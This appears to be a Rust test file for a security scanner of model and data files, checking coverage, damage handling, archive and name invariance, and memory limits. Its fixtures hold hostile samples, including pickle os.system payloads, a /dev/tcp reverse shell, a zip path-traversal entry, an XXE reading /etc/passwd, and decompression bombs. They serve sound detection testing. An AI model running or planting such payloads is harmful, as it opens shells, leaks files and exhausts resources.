//! What holds for every format: whole files are clean and understood, cut and damaged ones are
//! accounted for, no name and no wrapping makes anything better, and memory has its bounds.

use std::collections::BTreeSet;

use custos_core::finding::Severity;
use custos_scan::{FileReport, Options, State, scan};

use crate::archive::{Member, archive, packed};
use crate::pickle::Assembler;
use crate::{classic, graphs, keras, media, pickle, supply, tensors, text};

type Samples = Vec<(&'static str, Vec<u8>)>;

/// Ordinary files of all formats.
fn samples() -> Samples {
    [
        pickle::samples(),
        crate::archive::samples(),
        graphs::samples(),
        keras::samples(),
        classic::samples(),
        tensors::samples(),
        text::samples(),
        supply::lists::samples(),
        media::samples(),
    ]
    .concat()
}

/// Files that hurt, each in its way.
fn malicious() -> Samples {
    let call = Assembler::protocol(4).call("os", "system", "id").stop();
    let zip = archive(&[Member::new("m/data.pkl", &call)]);
    let out = archive(&[Member::new("../../x", b"words\n")]);
    vec![
        ("pickle", b"cos\nsystem\n(S'id'\ntR.".to_vec()),
        ("gzip", packed::gzip(&call)),
        ("zlib", packed::zlib(&call)),
        ("pickle", call),
        ("zip", zip),
        ("zip", out),
        ("python", b"import os\nos.system('id')\n".to_vec()),
        ("shell", b"#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/5 0>&1\n".to_vec()),
        (
            "json",
            b"{\"auto_map\": {}, \"x\": {\"_target_\": \"os.system\", \"command\": \"id\"}}".to_vec(),
        ),
        (
            "xml",
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
                .to_vec(),
        ),
    ]
}

fn look(name: &str, bytes: &[u8]) -> FileReport {
    scan(name, &bytes.to_vec(), &Options::default())
}

// Some formats need a name to be told.
fn name_of(format: &str) -> &'static str {
    match format {
        "shell script" => "x.sh",
        _ => "x",
    }
}

/// Every byte counts once, and what was not understood is never clean.
fn accounted(what: &str, bytes: &[u8]) -> FileReport {
    let report = look("x", bytes);
    let coverage = report.coverage;
    let sum = coverage.parsed + coverage.opaque + coverage.unknown;
    assert_eq!(sum, report.size, "{what}: {report:#?}");
    let clean = report.state(Severity::High) == State::Clean;
    assert!(
        !clean || coverage.unknown == 0,
        "clean, with unknown bytes: {what}: {report:#?}"
    );
    report
}

/// Reproducible numbers (xorshift), so that a failure comes again.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(bound.max(1)).unwrap()).unwrap()
    }
}

#[test]
fn whole_files_are_clean_and_understood() {
    for (format, bytes) in samples() {
        let report = look(name_of(format), &bytes);
        assert_eq!(report.state(Severity::High), State::Clean, "{report:#?}");
        assert_eq!(report.coverage.unknown, 0, "{format}: {report:#?}");
        let known = report.formats.iter().any(|one| one.format == format);
        assert!(known, "{format}: {report:#?}");
    }
}

#[test]
fn formats_have_ordinary_files_here() {
    // Those whose tests build what they need, or that are told by a name alone.
    const ELSEWHERE: [&str; 15] = [
        "unread-archive",
        "part-of-archive",
        "tensorflow-variables",
        "executorch-data",
        "tensorrt",
        "cntk-1",
        "rknn",
        "graph-fragments",
        "joblib ZF",
        "skops fallback",
        "avi",
        "lmdb",
        "feather-v1",
        "npm package",
        "python path file",
    ];
    let here: BTreeSet<&str> = samples().iter().map(|(format, _)| *format).collect();
    let lacking: Vec<&str> = custos_scan::fuzz::formats()
        .filter(|format| !here.contains(format))
        .collect();
    assert_eq!(lacking, ELSEWHERE);
}

#[test]
fn cut_files_are_accounted_for() {
    const CUTS: usize = 24;
    for (format, bytes) in samples().into_iter().chain(malicious()) {
        for end in (0..bytes.len()).step_by(bytes.len() / CUTS + 1) {
            accounted(&format!("{format} cut at {end}"), &bytes[..end]);
        }
        accounted(format, &bytes[..bytes.len() - 1]);
    }
}

#[test]
fn damaged_files_are_accounted_for() {
    const TIMES: usize = 24;
    let mut numbers = Numbers(0x2545_f491_4f6c_dd1d);
    for (format, bytes) in samples().into_iter().chain(malicious()) {
        for _ in 0..TIMES {
            let mut damaged = bytes.clone();
            for _ in 0..=numbers.below(3) {
                let at = numbers.below(damaged.len());
                damaged[at] ^= 1 << numbers.below(8);
            }
            accounted(&format!("{format}, damaged"), &damaged);
        }
    }
}

#[test]
fn no_archive_makes_anything_better() {
    for (format, bytes) in samples().into_iter().chain(malicious()) {
        let name = name_of(format);
        let plain = look(name, &bytes);
        for wrapped in [
            archive(&[Member::new(name, &bytes)]),
            archive(&[
                Member::new("README.md", b"# Model\n"),
                Member::new(&format!("a/{name}"), &archive(&[Member::new(name, &bytes)])),
            ]),
            packed::gzip(&bytes),
        ] {
            let report = look("x", &wrapped);
            // What is packed has no name of its own, and a script is known by its name.
            let named = format == "shell script" && wrapped.starts_with(b"\x1f\x8b");
            assert!(
                named || report.worst() >= plain.worst(),
                "{format}: {plain:#?} became {report:#?}"
            );
        }
    }
    for (format, bytes) in malicious() {
        let worst = look("x", &bytes).worst();
        assert!(worst >= Some(Severity::High), "{format}: {worst:?}");
    }
}

#[test]
fn no_name_makes_anything_better() {
    let seen = |name: &str, bytes: &[u8]| -> BTreeSet<(String, Severity)> {
        let findings = look(name, bytes).findings.into_iter();
        findings
            .filter(|one| one.rule != "scan/extension")
            .map(|one| (one.rule, one.severity))
            .collect()
    };
    for (format, bytes) in samples().into_iter().chain(malicious()) {
        let plain = seen("x", &bytes);
        for name in ["x.bin", "x.png", "x.safetensors", "x.onnx", "X.CSV"] {
            assert_eq!(seen(name, &bytes), plain, "{format} as {name}");
        }
        // A name that means a program or a list may show more, and never less.
        for name in [
            "x.pkl",
            "x.txt",
            "x.py",
            "x.sh",
            "requirements.txt",
            "x.pth",
        ] {
            let renamed = seen(name, &bytes);
            assert!(
                renamed.is_superset(&plain),
                "{format} as {name}: {plain:?} became {renamed:?}"
            );
        }
    }
}

#[cfg(target_os = "linux")]
mod memory {
    //! Most memory that a process of its own held while it scanned. No allocator counts it, as that
    //! takes unsafe code, which is not allowed here.

    use std::process::Command;

    use super::*;

    const MIB: u64 = 1 << 20;

    /// Runs a test once more in a process of its own, and returns what it said of its memory.
    fn peak_of(test: &str) -> u64 {
        let output = Command::new(std::env::current_exe().unwrap())
            .args(["--exact", test, "--nocapture"])
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{said}");
        let peak = said.lines().find_map(|line| line.strip_prefix("peak "));
        peak.unwrap_or_else(|| panic!("{said}")).parse().unwrap()
    }

    #[expect(clippy::print_stderr, reason = "read by the test that started this")]
    fn tell() {
        let status = std::fs::read_to_string("/proc/self/status").unwrap();
        let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
        let kib = peak.unwrap().split_whitespace().next().unwrap();
        eprintln!("\npeak {}", kib.parse::<u64>().unwrap() * 1024);
    }

    #[test]
    fn ordinary_files_take_little() {
        let peak = peak_of("robust::memory::scans_ordinary_files");
        assert!(peak <= 64 * MIB, "{} MiB", peak / MIB);
    }

    #[test]
    fn hostile_files_take_no_more_than_allowed() {
        for test in ["scans_bombs", "scans_claims_of_size"] {
            let peak = peak_of(&format!("robust::memory::{test}"));
            assert!(peak <= 512 * MIB, "{test}: {} MiB", peak / MIB);
        }
    }

    #[test]
    fn scans_ordinary_files() {
        for (format, bytes) in samples() {
            look(name_of(format), &bytes);
        }
        tell();
    }

    #[test]
    fn scans_bombs() {
        for bytes in bombs() {
            accounted("a bomb", &bytes);
        }
        tell();
    }

    // Sizes and counts are somewhere in each header: all of it is made large in turn.
    #[test]
    fn scans_claims_of_size() {
        const PLACES: usize = 60;
        for (format, bytes) in samples() {
            let head = bytes.len().min(600);
            for at in (0..head).step_by(head / PLACES + 1) {
                for (large, width) in [(0xff, 4), (0x7f, 8)] {
                    let mut claims = bytes.clone();
                    let end = (at + width).min(claims.len());
                    claims[at..end].fill(large);
                    accounted(&format!("{format}, large at {at}"), &claims);
                }
            }
        }
        tell();
    }

    /// Small files that ask for much.
    fn bombs() -> Vec<Vec<u8>> {
        let zeros = vec![0; 100 << 20];
        let once = packed::gzip(&zeros);
        let twice = packed::gzip(&once);
        drop(zeros);
        let deep = |open: &str, times: usize| open.repeat(times).into_bytes();
        let mut header = (1_u64 << 62).to_le_bytes().to_vec();
        header.extend_from_slice(b"{}");
        let rows = "(".repeat(4 << 20);
        vec![
            once,
            twice,
            deep("[", 4 << 20),
            deep("{\"a\":", 1 << 20),
            deep("<a>", 1 << 20),
            deep("- ", 1 << 20),
            header,
            Assembler::protocol(4).raw(rows.as_bytes()).stop(),
            Assembler::protocol(4).raw(&b"]\x94".repeat(2 << 20)).stop(),
            Assembler::protocol(4).raw(b"\x8d\0\0\0\0\0\x01\0\0ab").stop(),
            Assembler::protocol(4).raw(b"Nr\xff\xff\xff\xff").stop(),
            b"\x93NUMPY\x01\0\x4c\0{'descr': '<f8', 'fortran_order': False, 'shape': (999999999999, 9999999), }\n"
                .to_vec(),
            [b"GGUF\x03\0\0\0".as_slice(), &[0xff; 7], &[0], &[0xff; 7], &[0]].concat(),
        ]
    }
}
